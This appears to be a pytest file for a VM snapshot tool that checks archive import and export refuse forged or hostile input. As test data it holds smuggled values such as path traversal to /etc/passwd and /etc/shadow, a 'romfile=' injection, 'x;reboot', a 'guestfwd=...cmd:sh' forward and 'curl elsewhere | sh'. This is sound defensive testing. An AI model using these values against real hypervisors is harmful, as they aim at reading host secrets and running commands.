"""Snapshots in one file: what is in it comes back; what is wrong or hostile is refused and leaves nothing."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import os
import select
import shutil
import struct
import subprocess
import threading
from array import array
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from pathlib import Path

import archives
import msgspec
import pytest
from archives import (
    ID,
    IMAGE,
    KEY,
    LAYERS,
    MIB,
    SIZE,
    keep,
    machine_of,
    members,
    packed,
    plan_of,
    spec_of,
    write_disk,
)
from examples import examples
from hypothesis import given
from hypothesis import strategies as st
from kills import killed_at
from msgspec.structs import replace

import atoll
from atoll import runtime, store, transfer
from atoll.cli.main import main
from atoll.errors import StoreError, UsageError
from atoll.events import TaskEnded
from atoll.hypervisor.model import (
    Accelerator,
    Architecture,
    CardNetwork,
    Disk,
    DiskFormat,
    Forward,
    MemoryFile,
    UserNetwork,
)
from atoll.hypervisor.qemu.host import QemuHost, cpu_identity
from atoll.image import qcow2
from atoll.image.extents import Extent
from atoll.image.kernel import FileRecord, KernelBundle, Origin
from atoll.machine import adopting as machines
from atoll.machine import comparing, registry, restoring
from atoll.machine.spec import Service, mac_of
from atoll.paths import Paths, VmPaths
from atoll.sandbox import adopting as sandboxes
from atoll.snapshot import archive, blocks, catalog, exporting, thawing
from atoll.snapshot.index import decode, encode
from atoll.snapshot.manifest import Kind, id_of
from atoll.vm.bootplan import BootPlan, Share
from atoll.vm.branching import link_into
from atoll.vm.chain import PLAIN, Layer
from atoll.vm.folding import compact
from atoll.vm.network.attachment import Attachment
from atoll.vm.origin import Origin as Template
from atoll.vm.state import StateError

KINDS = [Kind.MACHINE, Kind.SANDBOX]


@pytest.fixture(autouse=True)
def fast(monkeypatch):
    """Nothing is killed here: no need to wait for the host's disk."""
    monkeypatch.setattr(os, "fsync", lambda _: None)


@pytest.fixture
def home(tmp_path):
    return Paths(data=tmp_path / "data", cache=tmp_path / "cache")


@pytest.fixture
def other(tmp_path):
    return Paths(data=tmp_path / "other", cache=tmp_path / "other-cache")


def exported(paths, snapshot):
    out = io.BytesIO()
    transfer.write_archive(paths, snapshot.id, out)
    return out.getvalue()


def taken(paths, data, **options):
    return transfer.read_archive(paths, io.BytesIO(data), **options)


def assert_refused(paths, data, code="usage.archive"):
    with pytest.raises((UsageError, StoreError)) as caught:
        taken(paths, data)
    assert caught.value.code == code, caught.value
    assert caught.value.hint
    assert not paths.snapshots.exists() or os.listdir(paths.snapshots) == []
    return caught.value.message


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_in_a_file_is_the_same_snapshot_elsewhere(home, other, kind):
    made = keep(home, kind)
    data = exported(home, made)
    assert data == exported(home, made)
    found = taken(other, data)
    assert (found.id, found.manifest, found.imported, made.imported) == (made.id, made.manifest, True, False)
    catalog.verify(found)
    for path in made.place.directory.iterdir():
        again = found.place.directory / path.name
        assert again.read_bytes() == path.read_bytes()
        assert again.stat().st_mode & 0o77 == 0 or path.name in {"manifest.json", "imported.json"}
    if kind is Kind.MACHINE:
        assert (found.place.directory / LAYERS[0].name).stat().st_blocks * 512 < MIB
    assert exported(other, found) == data
    assert_twice(other, data, found.id)


def assert_twice(paths, data, name):
    with pytest.raises(StoreError) as caught:
        taken(paths, data)
    assert (caught.value.code, name in caught.value.hint) == ("store.already_exists", True)


def test_other_programs_see_a_tar_of_small_parts(home, tmp_path):
    made = keep(home)
    data = exported(home, made)
    (tmp_path / "file").write_bytes(data)
    names = subprocess.run(
        ["tar", "tf", tmp_path / "file"], capture_output=True, text=True, check=True
    ).stdout.split()
    assert names[:2] == ["atoll-snapshot.json", "manifest.json"]
    assert names[-2:] == ["root.erofs.00000000", "sha256"]
    assert len(data) < 2 * MIB
    assert members(data)[1][1] == made.place.manifest.read_bytes()


def test_a_size_that_octal_digits_cannot_say_is_read_by_other_programs():
    head = archive.member("large", 9 << 30)
    assert archive.parse_member(head) == ("large", 9 << 30)
    import tarfile

    assert tarfile.TarInfo.frombuf(head, "utf-8", "strict").size == 9 << 30


@pytest.mark.parametrize("kind", KINDS)
def test_any_flipped_byte_and_any_cut_is_refused(home, other, kind):
    data = exported(home, keep(home, kind))
    edges, at = [], 0
    for _, content in members(data):
        size = len(content) + archive.padding(len(content))
        edges += [at + 130, at + 511 + size]
        at += 512 + size
    for place in sorted({*edges, *range(0, len(data), len(data) // 20), len(data) - 1, len(data) - 700}):
        damaged = bytearray(data)
        damaged[place] ^= 1 << place % 8
        assert_refused(other, bytes(damaged), code=code_of(damaged, place))
        assert_refused(other, data[:place])
    assert_refused(other, data + b"\0")
    assert_refused(other, b"")
    taken(other, data)


def code_of(data, place):
    """A version of another digit is that of another Atoll."""
    return (
        "store.newer"
        if data[: place + 1].endswith(b'"version":' + data[place : place + 1])
        else "usage.archive"
    )


@examples(2)
@given(st.binary(max_size=2000), st.binary(max_size=40))
def test_whatever_stands_in_a_file_there_is_one_error(tmp_path_factory, junk, tail):
    paths = Paths(data=tmp_path_factory.getbasetemp() / "fuzz", cache=tmp_path_factory.getbasetemp() / "fuzz")
    header = archive.member(archive.HEADER, len(junk)) + junk + bytes(archive.padding(len(junk)))
    for data in (junk, header + tail, archive.member("x", len(junk)) + junk):
        with pytest.raises((UsageError, StoreError)) as caught:
            taken(paths, data)
        assert caught.value.code in {"usage.archive", "store.newer"}


def rewritten(data, change):
    """An archive whose members are what ``change`` makes of them, and whose sums are right for that."""
    return packed(change(members(data)))


def with_member(name, content):
    return lambda parts: [(one, content if one == name else old) for one, old in parts]


def renamed(before, after):
    return lambda parts: [(after if one == before else one, content) for one, content in parts]


@pytest.mark.parametrize(
    "change",
    [
        lambda parts: parts[1:],
        lambda parts: parts[:-2] + parts[-1:],
        lambda parts: [*parts[:2], ("../escape", b"x"), *parts[2:]],
        lambda parts: [*parts[:-1], ("more", b"x"), parts[-1]],
        lambda parts: [*parts[:-1], parts[-2], parts[-1]],
        lambda parts: parts[:2] + parts[3:4] + parts[2:3] + parts[4:],
        renamed("root.erofs.00000000", "root.erofs.00000001"),
        renamed("machine.json", "machine.jsom"),
        with_member("root.erofs.00000000", b""),
        with_member("root.erofs.00000000", struct.pack("<II", 1 << 20, 10) + b"x" * 10),
        with_member("root.erofs.00000000", struct.pack("<II", 0, MIB) + b"x"),
        with_member("root.erofs.00000000", struct.pack("<II", 0, 4) + b"junk"),
        with_member("index", b""),
        with_member("index", b"ATOLLIX\x01" + b"\xff" * 8),
        with_member("manifest.json", b"{}"),
        with_member("manifest.json", b"[" * 100_000),
        with_member("boot.json", b"[" * 20_000),
        with_member("atoll-snapshot.json", b'{"format":"atoll-snapshot","version":1,"id":"x","room":-1}'),
        with_member("atoll-snapshot.json", b'{"format":"other","version":1,"id":"x","room":1}'),
    ],
    ids=lambda _: "",
)
def test_an_archive_that_was_put_together_by_others_is_refused(home, other, change):
    assert_refused(other, rewritten(exported(home, keep(home)), change))


def roomy(data, room):
    """An archive that says it needs so many bytes."""
    header = json.dumps({**json.loads(members(data)[0][1]), "room": room}).encode()
    return rewritten(data, with_member(archive.HEADER, header))


def test_no_more_is_written_than_was_said_and_than_there_is_room_for(home, other):
    data = exported(home, keep(home))
    said = json.loads(members(data)[0][1])
    for room in (said["room"] - MIB, 100):
        assert "more than it said" in assert_refused(other, roomy(data, room))
    assert_refused(other, roomy(data, 1 << 45), code="store.full")
    header = json.dumps({**said, "version": 2}).encode()
    assert_refused(other, rewritten(data, with_member(archive.HEADER, header)), code="store.newer")


#: What a manifest may not say.
HOSTILE_MANIFESTS = {
    "name": {"name": "a/b"},
    "terminal": {"machine": "\x1b[2J"},
    "id": {"machine_id": "../.."},
    "parent": {"parent": "../x"},
    "time": {"created": 1e300},
    "layer path": {"layers": (Layer("../../etc/passwd", DiskFormat.RAW),)},
    "layer order": {"layers": LAYERS[::-1]},
    "layer twice": {"layers": (LAYERS[0], *LAYERS)},
    "layer raw": {"layers": (LAYERS[0], replace(LAYERS[1], format=DiskFormat.RAW))},
    "no layer": {"layers": ()},
    "no memory": {"memory": 0},
    "size": {"size": 1 << 60},
    "other size": {"size": SIZE + 512},
    "device": {"devices": ({"driver": "vfio-pci", "host": "0000:00:02.0"},)},
    "device id": {"devices": ({"driver": "max-x86_64-cpu", "id": "ram"},)},
    "device more": {"devices": ({"driver": "max-x86_64-cpu", "id": "cpu1-0-0", "hv-vendor-id": "x"},)},
    "device value": {"devices": ({"driver": "max-x86_64-cpu", "id": "cpu1-0-0", "core-id": True},)},
    "packs": {"packs": "../index"},
    "ram": {"ram": False},
    "kind": {"kind": Kind.SANDBOX},
}


@pytest.mark.parametrize("said", HOSTILE_MANIFESTS.values(), ids=HOSTILE_MANIFESTS)
def test_what_a_manifest_may_not_say_is_refused(home, other, said):
    made = keep(home)
    manifest = replace(made.manifest, **said)
    assert_refused(other, forged(exported(home, made), manifest))


def forged(data, manifest):
    written = msgspec.json.encode(manifest)

    def change(parts):
        header = json.dumps({**json.loads(parts[0][1]), "id": id_of(written)}).encode()
        return [(archive.HEADER, header), (archive.MANIFEST, written), *parts[2:]]

    return rewritten(data, change)


@pytest.mark.parametrize(
    "name", ["../x", "data.img", "snapshot.json", "imported.json", "0" * 16 + ".pack", "index"]
)
def test_a_file_that_no_snapshot_has_is_refused(home, other, name):
    made = keep(home)
    more = {**made.manifest.files, name: made.manifest.files["machine.json"]}
    assert_refused(other, forged(exported(home, made), replace(made.manifest, files=more)))


ROOT = Disk("/x", "root", read_only=True)
DATA = machine_of(Kind.MACHINE).disks[-1]

#: What no VM of a plan may have, whatever else is right.
HOSTILE_VMS = {
    "another disk": {"disks": (*machine_of(Kind.MACHINE).disks, Disk("/dev/vda", "more"))},
    "a written root": {"disks": (replace(ROOT, read_only=False), DATA)},
    "a root that names files": {"disks": (replace(ROOT, format=DiskFormat.QCOW2), DATA)},
    "no disk": {"disks": (ROOT,)},
    "ram": {"ram": MemoryFile("/etc/passwd", shared=True)},
    "more": {"more": MemoryFile("/etc/passwd", shared=True)},
    "mac": {"network": UserNetwork("02:00:00:00:00:01,romfile=/etc/shadow")},
    "mac of a card": {"network": None, "card": CardNetwork("02:00:00:00:00:01,romfile=/etc/shadow")},
    "no mac of a card": {"network": None, "card": CardNetwork("")},
    "mtu of a card": {"network": None, "card": CardNetwork("02:00:00:00:00:01", 1 << 40)},
    "slots": {"slots": 10_000},
    "memory": {"memory": 1 << 50},
    "odd memory": {"memory": MIB + 1},
    "more memory than it had": {"memory": 2 * MIB},
    "memory that may come": {"max_memory": 1 << 45},
    "vcpus": {"vcpus": 1 << 40},
    "name": {"name": "a,b"},
    "cmdline": {"cmdline": ("a\nb",)},
    "consoles": {"consoles": False},
    "another kernel": {"kernel": "/etc/shadow"},
}


@pytest.mark.parametrize("said", HOSTILE_VMS.values(), ids=HOSTILE_VMS)
def test_what_the_plan_of_a_machine_may_not_have_is_refused(home, other, said):
    plan = plan_of(machine=machine_of(Kind.MACHINE, **said))
    assert_refused(other, exported(home, keep(home, plan=plan)))


def test_an_index_is_not_read_before_the_records_and_the_room_allow_it(home, other, monkeypatch):
    """Memory of 16 TiB would allow an index of 16 GiB."""
    monkeypatch.setattr(store, "require_space", lambda *_: None)
    claim = archive.member(archive.INDEX, 16 << 30)
    for slots, room, what in (
        (4, 1 << 20, "more than it said"),
        (4, 1 << 36, "too large"),
        (99, 1 << 36, "slots"),
    ):
        plan = plan_of(machine=machine_of(Kind.MACHINE, memory=1 << 44, slots=slots))
        made = keep(home, plan=plan, memory=1 << 44, name=f"with-{slots}-of-{room}")
        parts = roomy(exported(home, made), room)
        before = parts[: parts.index(archive.member(archive.INDEX, size_of_index(made)))]
        assert what in assert_refused(other, before + claim)


def size_of_index(snapshot):
    return (snapshot.place.directory / archive.INDEX).stat().st_size


HOSTILE_SANDBOXES = {name: said for name, said in HOSTILE_VMS.items() if name != "another kernel"} | {
    "traversal": {"disks": (Disk("/x", "../../root", read_only=True),)},
    "console": {"consoles": True},
}


@pytest.mark.parametrize("said", HOSTILE_SANDBOXES.values(), ids=HOSTILE_SANDBOXES)
def test_what_the_vm_of_a_sandbox_may_not_have_is_refused(home, other, said):
    if said == {"consoles": False}:
        said = {"shared_memory": True}
    assert_refused(other, exported(home, keep(home, Kind.SANDBOX, vm=machine_of(Kind.SANDBOX, **said))))


def test_a_plan_that_begins_with_a_file_of_the_host_is_refused(home, other):
    template = Template(
        template="x", manifest="/etc/passwd", ram="/etc/passwd", state="/x", stamps=(None, None)
    )
    assert_refused(other, exported(home, keep(home, plan=plan_of(origin=template))))


@pytest.mark.parametrize(
    "said",
    [
        {"accel": "fake"},
        {"id": "f" * 32},
        {"user": "x;reboot"},
        {"cpus": 0},
        {"boot_timeout": 1e300},
        {"image": "\x1b"},
    ],
    ids=str,
)
def test_what_a_machine_may_not_ask_for_is_refused(home, other, said):
    assert_refused(other, exported(home, keep(home, spec=spec_of(**said))))


def test_memory_that_would_grow_beyond_its_vm_is_refused(home, other):
    made = keep(home)
    path = made.place.directory / "index"
    packs, (state, ram) = decode(path.read_bytes())
    many = replace_image(ram, size=1 << 40)
    data = encode(packs, [state, many])
    manifest = replace(made.manifest, packs=hashlib.sha256(data).hexdigest())
    changed = rewritten(exported(home, made), with_member("index", data))
    assert "memory" in assert_refused(other, forged(changed, manifest))


def test_one_chunk_that_stands_for_more_than_the_host_has_fills_no_memory(home, other, monkeypatch):
    """A pack of some bytes, and runs that name it over and over."""
    made = keep(home, plan=plan_of(machine=machine_of(Kind.MACHINE, max_memory=1 << 40)))
    packs, (state, ram) = decode((made.place.directory / "index").read_bytes())
    runs = 40_000
    at, first = array("I", range(runs)), array("I", bytes(4 * runs))
    pack, count = array("H", bytes(2 * runs)), array("H", [1] * runs)
    more = replace_image(ram, size=1 << 40, at=at, first=first, pack=pack, count=count)
    data = encode(packs, [state, ram, more])
    manifest = replace(made.manifest, packs=hashlib.sha256(data).hexdigest())
    changed = roomy(rewritten(exported(home, made), with_member("index", data)), 8 * MIB)
    found = taken(other, forged(changed, manifest))
    monkeypatch.setattr(thawing, "host_memory", lambda: runs * 16_384 - 1)
    monkeypatch.setattr(os, "memfd_create", None)
    with ExitStack() as stack, pytest.raises(StateError, match="needs 625 MiB"):
        thawing.thaw(found, stack)


def replace_image(image, **changes):
    import dataclasses

    return dataclasses.replace(image, **changes)


def disk_with(damage):
    def write(directory):
        write_disk(directory)
        damage(directory / LAYERS[1].name)

    return write


def patched(at, data):
    def damage(path):
        with path.open("r+b") as file:
            file.seek(at)
            file.write(data)

    return disk_with(damage)


HOSTILE_DISKS = {
    "another file below": lambda directory: write_disk(directory, backing="/etc/shadow"),
    "json below": lambda directory: write_disk(
        directory, backing='json:{"driver":"file","filename":"/etc/shadow"}'
    ),
    "a raw format": disk_with(lambda path: path.write_bytes(b"raw" * 100_000)),
    "an external file": patched(72, (4).to_bytes(8, "big")),
    "encryption": patched(32, (1).to_bytes(4, "big")),
    "snapshots": patched(60, (1).to_bytes(4, "big")),
    "bitmaps": patched(88, (1).to_bytes(8, "big")),
    "an extension": patched(104, struct.pack(">II", 0x44415441, 3)),
    "another size": patched(24, (1 << 40).to_bytes(8, "big")),
    "tables outside": patched(3 * 65536, (1 << 40).to_bytes(8, "big")),
}


@pytest.mark.parametrize("disk", HOSTILE_DISKS.values(), ids=HOSTILE_DISKS)
def test_a_disk_that_could_lead_to_other_files_is_refused(home, other, disk):
    assert_refused(other, exported(home, keep(home, disk=disk)))


def test_what_qemu_writes_itself_is_taken(home, other):
    def write(path):
        words = ["qemu-io", "-c", "write 1M 64k", "-c", "discard 2M 64k", "-c", "write -z 3M 64k", str(path)]
        subprocess.run(words, check=True, capture_output=True)

    taken(other, exported(home, keep(home, disk=disk_with(write))))


def test_an_overlay_has_exactly_what_lies_below_it(tmp_path):
    write_disk(tmp_path)
    path = tmp_path / LAYERS[1].name
    assert qcow2.require_plain(path, LAYERS[0].name, "raw").size == SIZE
    for name, layout in ((LAYERS[0].name, "qcow2"), ("other", "raw")):
        with pytest.raises(atoll.ImageError):
            qcow2.require_plain(path, name, layout)


def installed(paths, *, modules=b"modules"):
    """A kernel of this host, and the digest of its modules."""
    files = {"vmlinux": b"kernel", "initramfs": b"agent", "modules.erofs": modules}
    directory = paths.kernel(KEY)
    directory.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (directory / name).write_bytes(data)
    records = {
        name: FileRecord(sha256=hashlib.sha256(data).hexdigest(), size=len(data))
        for name, data in files.items()
    }
    bundle = KernelBundle(
        key=KEY,
        architecture="x86_64",
        release="6.1",
        origin=Origin(kind="file", name="x", sha256=""),
        agent="",
        files=records,
        channel=(),
        root=(),
        head=0,
        created=1.0,
    )
    store.write_record(directory / "manifest.json", bundle)
    return records["modules.erofs"].sha256


HOST = QemuHost("/usr/bin/qemu", "id", "7.2.0", sandbox=True)


@pytest.fixture
def here(monkeypatch, other, config):
    """A host of the snapshots' kind, with their kernel."""
    monkeypatch.setattr(runtime, "host_architecture", lambda: Architecture.X86_64)
    monkeypatch.setattr(thawing, "host_architecture", lambda: "x86_64")
    for module in (machines, restoring):
        monkeypatch.setattr(module, "inspect_host", lambda *_: HOST)
    installed(other)
    return replace(config, data_dir=other.data, cache_dir=other.cache)


def moved(home, other, *, modules=None, **said):
    """A snapshot from another host, whose kernel had these modules."""
    directory = home.kernel(KEY)
    root, _, data = machine_of(Kind.MACHINE).disks
    disks = (root, Disk(directory / "modules.erofs", "modules", read_only=True), data)
    files = {"kernel": directory / "vmlinux", "initramfs": directory / "initramfs"}
    plan = plan_of(machine=machine_of(Kind.MACHINE, disks=disks, **files))
    installed(home, **({"modules": modules} if modules is not None else {}))
    return taken(other, exported(home, keep(home, plan=plan, cpu=cpu_identity(), **said)))


def test_another_machine_of_it_has_nothing_of_the_other_host(home, other, here):
    snapshot = moved(home, other)
    restoring.require_fit(snapshot, here)
    place = restoring.add_from(here, snapshot, "twin", ram=True)
    spec = registry.find(other, "twin").spec
    assert (spec.shares, spec.forwards, spec.kernel, spec.id != ID) == ((), (), "", True)
    plan = store.read_record(place.boot, BootPlan)
    assert (plan.host, plan.setup.shares, plan.origin) == (HOST, (), None)
    assert plan.machine.network == UserNetwork(mac_of(spec.id))
    directory = other.kernel(KEY)
    assert (plan.machine.kernel, plan.machine.initramfs) == (directory / "vmlinux", directory / "initramfs")
    paths = [disk.path for disk in plan.machine.disks]
    assert paths[:2] == [place.root, directory / "modules.erofs"]
    assert paths[2].parent == place.directory
    assert "elsewhere" not in place.boot.read_text() + place.spec.read_text()
    assert str(home.data) not in place.boot.read_text()


def test_its_card_is_plugged_into_a_network_of_this_host(home, other, here):
    installed(home)
    card, directory = CardNetwork("02:00:00:00:00:01", 9000), home.kernel(KEY)
    files = {"kernel": directory / "vmlinux", "initramfs": directory / "initramfs"}
    root, _, data = machine_of(Kind.MACHINE).disks
    disks = (root, Disk(directory / "modules.erofs", "modules", read_only=True), data)
    vm = machine_of(Kind.MACHINE, network=None, card=card, disks=disks, **files)
    there = Attachment(network=Path("/elsewhere"), owner=ID, hostname="x", host_ports=(22,))
    plan = plan_of(machine=vm, attachment=there)
    snapshot = taken(other, exported(home, keep(home, plan=plan, cpu=cpu_identity())))
    place = restoring.add_from(here, snapshot, "twin", ram=True)
    spec, plan = registry.find(other, "twin").spec, store.read_record(place.boot, BootPlan)
    assert (plan.machine.card, plan.machine.network) == (CardNetwork(mac_of(spec.id), 9000), None)
    own = Attachment(network=other.network("default").directory, owner=spec.id, hostname="twin")
    assert plan.attachment == own


def test_the_machine_that_it_is_of_goes_back_with_what_it_has_itself(home, other, here):
    snapshot = moved(home, other)
    wishes = spec_of(shares=(Share("/srv", "/srv"),), forwards=(Forward(8080, 80),), kernel="", accel="tcg")
    registry.add(other, "dev", wishes, write_root)
    machine = registry.find(other, "dev")
    restoring.require_own(snapshot, machine)
    restoring.fill_from(machine, snapshot, here, ram=True)(machine.place)
    plan = store.read_record(machine.place.boot, BootPlan)
    assert (plan.host, plan.setup.shares) == (HOST, wishes.shares)
    assert plan.machine.network == UserNetwork(mac_of(ID), wishes.forwards)
    assert "elsewhere" not in machine.place.boot.read_text()


def test_a_source_that_cannot_be_read_is_blamed_itself(home, other):
    data = exported(home, keep(home))

    class Failing(io.BytesIO):
        def read(self, count, /):
            if self.tell() > len(data) // 2:
                raise OSError(5, "Input/output error")
            return super().read(count)

    with pytest.raises(UsageError, match="cannot read a snapshot: Input/output error"):
        transfer.read_archive(other, Failing(data))
    assert os.listdir(other.snapshots) == []


def test_what_takes_a_part_at_a_time_gets_all_and_what_is_full_is_told_of(home):
    made = keep(home)

    class Slow(io.RawIOBase):
        def __init__(self):
            self.got = bytearray()

        def write(self, data, /):
            self.got += data[:10_000]
            return min(len(data), 10_000)

    slow = Slow()
    transfer.write_archive(home, made.id, slow)
    assert slow.got == exported(home, made)
    with open("/dev/full", "wb", buffering=0) as full, pytest.raises(StoreError) as caught:
        transfer.write_archive(home, made.id, full)
    assert caught.value.code == "store.full"


def test_no_machine_from_elsewhere_becomes_one_of_atolls_own(home, other, here):
    service = Service("curl elsewhere | sh", direct=("/x atoll.y=z",))
    snapshot = moved(home, other, spec=spec_of(service=service))
    with pytest.raises(UsageError) as caught:
        restoring.add_from(here, snapshot, "docker", ram=False)
    assert caught.value.code == "usage.reserved"
    restoring.add_from(here, snapshot, "twin", ram=True)
    assert registry.find(other, "twin").spec.service is None


def write_root(place):
    place.root.write_bytes(b"root")
    store.write_record(place.image, IMAGE)
    place.data.write_bytes(b"")


def test_a_kernel_that_is_not_here_or_is_another_one_is_a_mismatch_and_the_disk_can_be_had(home, other, here):
    for name, modules in (("other", b"others"), ("none", b"modules")):
        snapshot = moved(home, other, modules=modules, name=name)
        if name == "none":
            shutil.rmtree(other.kernel(KEY))
        with pytest.raises(StateError) as caught:
            restoring.require_fit(snapshot, here)
        assert (caught.value.code, "--disk-only" in caught.value.hint) == ("state.mismatch", True)
        place = restoring.add_from(here, snapshot, name, ram=False)
        assert not place.boot.exists()
        assert (place.directory / LAYERS[0].name).exists()


def test_a_host_that_is_too_small_is_told_before_any_memory_is_filled(home, other, here, monkeypatch):
    snapshot = moved(home, other)
    monkeypatch.setattr(thawing, "host_memory", lambda: MIB - 1)
    with pytest.raises(StateError) as caught:
        restoring.require_fit(snapshot, here)
    assert (caught.value.code, "--disk-only" in caught.value.hint) == ("state.mismatch", True)


def test_a_sandbox_of_it_has_nothing_of_the_other_host(home, other, here):
    network = UserNetwork("02:00:00:00:00:01", (Forward(1, 2, address="x-:,guestfwd=tcp:1-cmd:sh"),))
    vm = machine_of(Kind.SANDBOX, network=network)
    snapshot = taken(other, exported(home, keep(home, Kind.SANDBOX, vm=vm)))
    machine = sandboxes.adopted(store.read_record(snapshot.place.vm, sandboxes.Record).machine)
    assert machine.network == UserNetwork("02:00:00:00:00:01")
    assert b"elsewhere" not in msgspec.json.encode(machine, enc_hook=str)
    with pytest.raises(StateError):
        sandboxes.adopted(replace(machine, memory=1 << 46))


def test_one_whose_name_is_taken_can_have_another_and_is_another_then(home, other):
    for kind in KINDS:
        data = exported(home, keep(home, kind))
        keep(other, kind)
        with pytest.raises(StoreError) as caught:
            taken(other, data)
        assert (caught.value.code, "--name" in caught.value.hint) == ("store.already_exists", True)
        found = taken(other, data, name="again")
        assert (found.manifest.name, found.id == id_of(found.place.manifest.read_bytes())) == ("again", True)
        catalog.verify(catalog.find(other, found.id))


def test_what_is_here_already_is_had_once_but_not_by_its_name_alone(home, other):
    data = exported(home, keep(home))
    first = taken(other, data)
    layer, pack = first.place.directory / LAYERS[0].name, next(first.place.directory.glob("*.pack"))
    second = taken(other, data, name="second")
    for path in (layer, pack, first.place.root):
        assert path.samefile(second.place.directory / path.name)
    for path in (layer, pack):
        damaged = bytearray(path.read_bytes())
        damaged[30] ^= 1
        path.write_bytes(damaged)
    third = taken(other, data, name="third")
    catalog.verify(third)
    assert not third.place.root.samefile(first.place.directory / LAYERS[0].name)
    assert third.place.root.samefile(first.place.root)


@pytest.mark.parametrize(
    "name", ["root.erofs", LAYERS[0].name, "machine.json", "index", "*.pack", "manifest.json"]
)
@pytest.mark.parametrize("damage", ["flipped", "missing", "short"])
def test_a_damaged_snapshot_is_not_exported_and_leaves_no_file(home, tmp_path, name, damage):
    made = keep(home)
    path = next(made.place.directory.glob(name))
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.unlink()
    if damage != "missing":
        path.write_bytes(content if damage == "flipped" else content[:-1])
    with pytest.raises(StoreError) as caught:
        transfer.write_archive(home, made.id, tmp_path / "file")
    assert caught.value.code == "store.corrupt"
    assert [one for one in os.listdir(tmp_path) if "file" in one] == []


def test_a_snapshot_that_is_removed_meanwhile_is_exported_whole(home, other):
    made = keep(home)

    class Removing(io.BytesIO):
        def write(self, data, /):
            if not self.tell():
                catalog.remove(home, made.id)
            return super().write(data)

    out = Removing()
    transfer.write_archive(home, made.id, out)
    assert taken(other, out.getvalue()).id == made.id


def test_a_snapshot_is_exported_whole_whose_machine_wants_to_fold_its_disk(home, other, tmp_path):
    made = keep(home)
    machine = VmPaths(tmp_path / "machine")
    machine.directory.mkdir()
    chain = link_into(VmPaths(made.place.directory), LAYERS, machine, SIZE)
    path = machine.directory / chain.active.name
    path.unlink()
    with ExitStack() as stack:
        source = archives.memory(stack, os.urandom(MIB), MIB)
        written = Extent(0, MIB, 0, 0)
        qcow2.write(path, SIZE, LAYERS[-1].name, LAYERS[-1].format, [written], [source])
    folded = []

    class Removing(io.BytesIO):
        def write(self, data, /):
            if not self.tell():
                catalog.remove(home, made.id)
                folded.append(compact(machine))
            return super().write(data)

    out = Removing()
    transfer.write_archive(home, made.id, out)
    assert folded == [chain]
    assert taken(other, out.getvalue()).id == made.id
    assert compact(machine) == PLAIN


def test_disks_that_are_compared_are_not_folded(home, tmp_path):
    made = keep(home)
    machine = VmPaths(tmp_path / "machine")
    machine.directory.mkdir()
    chain = link_into(VmPaths(made.place.directory), LAYERS, machine, SIZE)
    with comparing.undisturbed(made):
        catalog.remove(home, made.id)
        assert compact(machine) == chain
    assert compact(machine) == PLAIN
    with pytest.raises(StoreError) as caught, comparing.undisturbed(made):
        pass
    assert caught.value.code == "store.missing"


def test_a_file_is_written_whole_or_not_at_all(home, tmp_path, monkeypatch):
    made = keep(home)
    target = tmp_path / "file"
    events = []
    done = transfer.write_archive(home, made.id, target, events.append)
    assert (done.id, done.bytes) == (made.id, target.stat().st_size)
    assert target.stat().st_mode & 0o777 == 0o600
    assert isinstance(events[-1], TaskEnded)
    with pytest.raises(StoreError) as caught:
        transfer.write_archive(home, made.id, target)
    assert caught.value.code == "store.already_exists"

    def full(*_, **__):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exporting, "write", full)
    with pytest.raises(StoreError) as caught:
        transfer.write_archive(home, made.id, tmp_path / "more")
    assert caught.value.code == "store.full"
    assert sorted(os.listdir(tmp_path)) == ["data", "file"]


def test_a_file_that_somebody_makes_meanwhile_stays_his(home, tmp_path, monkeypatch):
    made = keep(home)
    target = tmp_path / "file"
    real = exporting.write

    def write(*arguments, **options):
        assert sorted(os.listdir(tmp_path)) == ["data"]  # nothing that a kill could leave
        target.write_bytes(b"another's")
        return real(*arguments, **options)

    monkeypatch.setattr(exporting, "write", write)
    with pytest.raises(StoreError) as caught:
        transfer.write_archive(home, made.id, target)
    assert (caught.value.code, target.read_bytes()) == ("store.already_exists", b"another's")


@pytest.mark.anyio
@pytest.mark.parametrize("begun", [False, True])
@pytest.mark.parametrize("named", [False, True])
async def test_one_who_waits_no_more_for_a_silent_pipe_need_not(home, other, config, tmp_path, named, begun):
    data = exported(home, keep(home))
    there = replace(config, data_dir=other.data)
    path = tmp_path / "pipe"
    os.mkfifo(path)
    with (
        os.fdopen(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as source,
        os.fdopen(os.open(path, os.O_WRONLY), "wb", buffering=0) as sink,
    ):
        os.set_blocking(source.fileno(), True)
        threads = threading.active_count()
        importing = atoll.aio.import_snapshot(path if named else source, config=there)
        task = asyncio.create_task(importing)
        await asyncio.sleep(0.05)
        if begun:
            sink.write(data[: len(data) // 2])
            await asyncio.sleep(0.05)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert threading.active_count() <= threads + 1  # one that waits for other work
    assert os.listdir(other.snapshots) == [] if other.snapshots.exists() else True


@pytest.mark.anyio
@pytest.mark.parametrize("buffered", [False, True])
async def test_one_who_waits_no_more_for_a_pipe_that_nobody_reads_need_not(home, config, buffered):
    made = keep(home)
    mine = replace(config, data_dir=home.data)
    reader, writer = os.pipe()
    with os.fdopen(writer, "wb", buffering=-1 if buffered else 0) as sink, os.fdopen(reader, "rb"):
        task = asyncio.create_task(atoll.aio.export_snapshot(made.id, sink, config=mine))
        await asyncio.to_thread(select.select, [reader], [], [])
        await asyncio.sleep(0.05)
        assert not task.done()
        task.cancel()
        done, _ = await asyncio.wait([task], timeout=5)
        assert done
        assert task.cancelled()


@pytest.mark.parametrize("waits", [False, True])
def test_a_pipe_that_is_read_gets_all_whether_or_not_a_write_to_it_waits(home, waits):
    made = keep(home)
    reader, writer = os.pipe()
    with os.fdopen(reader, "rb") as source, ThreadPoolExecutor(1) as thread:
        got = thread.submit(source.read)
        os.set_blocking(writer, waits)
        with os.fdopen(writer, "wb") as sink:
            transfer.write_archive(home, made.id, sink)
        assert got.result(10) == exported(home, made)


class DoneError(Exception):
    """Somebody has done with it."""


class Steps:
    """Counts them; the last one that it takes, of so many, raises."""

    def __init__(self, most=-1):
        self.count, self.most = 0, most

    def __call__(self):
        self.count += 1
        if self.count == self.most:
            raise DoneError


def test_one_who_has_done_with_an_import_at_any_moment_leaves_nothing(home, other):
    made = keep(home)
